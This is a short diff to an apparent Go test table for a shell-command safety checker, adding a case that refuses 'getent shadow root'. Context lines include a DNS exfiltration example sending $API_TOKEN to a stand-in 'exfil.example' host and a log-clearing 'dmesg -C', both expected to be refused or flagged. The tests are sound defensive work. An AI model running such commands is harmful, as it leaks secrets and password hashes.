@@ -490,6 +490,7 @@ var t1Cases = []t1Case{
 	{prog: "dmesg", script: "dmesg --level=err", ro: true},
 	{prog: "dmesg", script: "dmesg -C", want: t1Refused, names: "-C"},
 	{prog: "getent", script: "getent passwd root", ro: true},
+	{prog: "getent", script: "getent shadow root", want: t1Refused, names: "shadow"},
 	{prog: "getent", script: `getent hosts "$API_TOKEN.exfil.example"`, want: t1Marked, sev: SeverityNetwork, secret: true},
 	{prog: "getent", script: "getent -s dns hosts example.org", want: t1Refused, names: "-s"},
 	{prog: "locale", script: "locale -a", ro: true},
